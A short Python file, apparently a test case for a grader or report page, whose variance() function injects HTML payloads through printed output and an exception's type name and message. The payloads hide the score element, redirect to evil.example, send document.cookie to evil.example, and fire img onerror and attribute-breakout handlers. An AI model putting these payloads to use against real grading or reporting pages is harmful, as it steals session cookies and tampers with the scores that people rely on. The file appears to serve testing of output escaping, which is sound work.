"""Puts HTML into type name, message and output: a script, an image with a handler, an unclosed comment and a style.

earns: 40
canary: raw
"""

import numpy as np


def mean(x):
    return np.mean(x)


def variance(x):
    print("</pre></td></tr></table><style>.score{display:none}</style>")
    print("<meta http-equiv=refresh content=0;url=//evil.example>")
    page = "<script>fetch('//evil.example/?'+document.cookie)</script>"
    raise type("<img src=x onerror=alert(1)>", (Exception,), {})(page + "<!-- ' onmouseover=alert(1) \" autofocus x=")
